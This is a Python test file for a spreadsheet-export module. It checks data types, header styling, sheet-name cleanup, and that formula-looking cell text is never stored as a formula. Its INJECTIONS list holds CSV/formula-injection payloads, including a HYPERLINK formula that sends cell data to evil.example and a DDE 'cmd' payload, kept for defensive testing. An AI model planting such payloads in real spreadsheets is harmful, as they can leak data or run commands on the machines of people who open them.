"""XLSX workbooks: read back with openpyxl, and checked in the sheet XML that Excel itself would read."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from assay.infra.spreadsheets import MAX_COLUMN_WIDTH, Value, sheet_title, xlsx_bytes

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]


def read(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def sheet_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]


def test_round_trip_values_and_types() -> None:
    rows: list[list[Value]] = [
        ["name", "score", "ratio", "note"],
        ["Ada", 3, 0.5, None],
        ["Grace", -1, 2.25, "multi\nline"],
    ]
    book = read(xlsx_bytes([("People", rows)]))
    assert book.sheetnames == ["People"]
    sheet = book["People"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == rows
    assert sheet["B2"].data_type == "n"  # numbers stay numbers, so they sort and sum
    assert sheet["C3"].data_type == "n"
    assert sheet["A2"].data_type == "s"


def test_header_is_bold_frozen_and_filtered_and_text_wraps() -> None:
    rows = [["priority", "domain", "criteria"], ["1", "Output validation", "x" * 500], ["2", "Retrieval", "short"]]
    sheet = read(xlsx_bytes([("Plan", rows)]))["Plan"]
    assert all(cell.font.b for cell in sheet[1])
    assert not any(cell.font.b for cell in sheet[2])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"
    assert sheet["C2"].alignment.wrap_text
    widths = {column: sheet.column_dimensions[column].width for column in "ABC"}
    assert widths["B"] == len("Output validation") + 2
    assert widths["C"] == MAX_COLUMN_WIDTH  # long text wraps within a capped width
    assert 8 <= widths["A"] < widths["B"]


def test_several_sheets_keep_their_order() -> None:
    book = read(xlsx_bytes([("Action plan", [["a"], ["1"]]), ("Domains", [["b"], [2]])]))
    assert book.sheetnames == ["Action plan", "Domains"]
    assert book["Domains"]["A2"].value == 2


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_looking_text_stays_text(text: str) -> None:
    data = xlsx_bytes([("Sheet", [[text, "header"], ["plain", text]])])
    sheet = read(data)["Sheet"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells] == [text, "header", "plain", text]  # exactly, with no quote added
    assert all(cell.data_type == "s" for cell in cells)
    # What Excel reads: no <f> (formula) element anywhere, and each cell a typed string.
    (xml,) = sheet_xml(data)
    assert not re.search(r"<f[\s>]", xml)
    assert xml.count('t="inlineStr"') + xml.count('t="s"') == 4


def test_illegal_control_characters_are_dropped_not_fatal() -> None:
    sheet = read(xlsx_bytes([("S", [["h"], ["bell\x07 and\x00 null\ttab\nline"]])]))["S"]
    assert sheet["A2"].value == "bell and null\ttab\nline"


def test_non_finite_numbers_are_refused() -> None:
    with pytest.raises(ValueError, match="B2"):
        xlsx_bytes([("S", [["a", "b"], [1, float("nan")]])])


def test_empty_sheets_and_ragged_rows() -> None:
    book = read(xlsx_bytes([("Empty", []), ("Ragged", [["a", "b", "c"], ["1"], ["1", "2", "3", "4"]])]))
    assert book["Empty"].max_row == 1
    assert book["Empty"]["A1"].value is None
    assert book["Empty"].freeze_panes is None
    assert book["Ragged"].auto_filter.ref == "A1:D3"
    with pytest.raises(ValueError, match="at least one sheet"):
        xlsx_bytes([])


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("Action plan", "Action plan"),
        ("a/b\\c:d*e?f[g]h", "a-b-c-d-e-f-g-h"),
        ("A name that is far longer than Excel allows", "A name that is far longer than"),
        ("'quoted'", "quoted"),
        ("  spaced \t out  ", "spaced out"),
        ("", "Sheet"),
        ("[]", "--"),
        ("History", "History (sheet)"),
    ],
)
def test_sheet_title(name: str, title: str) -> None:
    assert sheet_title(name) == title
    assert 1 <= len(title) <= 31


def test_bad_and_clashing_sheet_names_still_make_a_valid_workbook() -> None:
    long = "Readiness profile of every domain, by person"
    names = ["Q1/Q2", "q1-q2", long, long + " again", "", "Sheet"]
    book = read(xlsx_bytes([(name, [["h"], [i]]) for i, name in enumerate(names)]))
    assert book.sheetnames == [
        "Q1-Q2",
        "q1-q2 (2)",
        "Readiness profile of every doma",
        "Readiness profile of every (2)",
        "Sheet",
        "Sheet (2)",
    ]
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert [book[name]["A2"].value for name in book.sheetnames] == list(range(len(names)))
